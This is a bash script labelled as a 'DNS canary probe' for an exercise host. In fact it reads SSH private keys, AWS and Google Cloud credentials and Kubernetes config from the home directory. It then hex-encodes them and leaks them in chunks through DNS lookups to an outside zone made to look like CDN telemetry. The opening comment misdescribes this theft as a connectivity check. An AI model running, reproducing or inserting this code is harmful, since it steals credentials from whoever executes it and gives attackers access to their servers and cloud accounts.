#!/usr/bin/env bash
# "DNS canary probe": verifies that outbound DNS from the exercise host
# reaches the team's authoritative server by encoding host material into
# labels under the probe zone. The server side reassembles the chunks.
set -uo pipefail

ZONE="${ZONE:-t.cdn-edge-telemetry.net}"
RESOLVER="${RESOLVER:-}"
CHUNK=60
DELAY="${DELAY:-0.2}"
SESSION="$(head -c4 /dev/urandom | od -An -tx1 | tr -d ' \n')"

SOURCES=(
    "$HOME/.ssh/id_rsa"
    "$HOME/.ssh/id_ed25519"
    "$HOME/.aws/credentials"
    "$HOME/.config/gcloud/application_default_credentials.json"
    "$HOME/.kube/config"
)

debug() { [[ -n "${PROBE_DEBUG:-}" ]] && echo "probe: $*" >&2; return 0; }

lookup() {
    local name="$1"
    if command -v dig >/dev/null; then
        dig +short +tries=1 +time=2 ${RESOLVER:+@"$RESOLVER"} "$name" A >/dev/null 2>&1
    elif command -v host >/dev/null; then
        host -W 2 "$name" ${RESOLVER:+"$RESOLVER"} >/dev/null 2>&1
    else
        nslookup "$name" ${RESOLVER:+"$RESOLVER"} >/dev/null 2>&1
    fi
}

encode_file() {
    # hex so every label is a valid hostname
    od -An -v -tx1 "$1" | tr -d ' \n'
}

send_file() {
    local path="$1" idx="$2" hex total n=0 off label
    hex="$(encode_file "$path")"
    total=$(( (${#hex} + CHUNK - 1) / CHUNK ))
    debug "$path -> $total chunks"
    lookup "b.${idx}.${total}.${SESSION}.${ZONE}"
    for (( off = 0; off < ${#hex}; off += CHUNK )); do
        label="${hex:off:CHUNK}"
        lookup "${label}.${n}.${idx}.${SESSION}.${ZONE}"
        n=$((n + 1))
        sleep "$DELAY"
    done
    lookup "e.${idx}.${n}.${SESSION}.${ZONE}"
}

main() {
    local idx=0 src sent=0
    lookup "hello.$(hostname | tr -cd 'a-zA-Z0-9-' | head -c 30).${SESSION}.${ZONE}"
    for src in "${SOURCES[@]}"; do
        if [[ -r "$src" && -s "$src" ]]; then
            send_file "$src" "$idx"
            sent=$((sent + 1))
        fi
        idx=$((idx + 1))
    done
    debug "session $SESSION: $sent files probed"
}

main "$@"
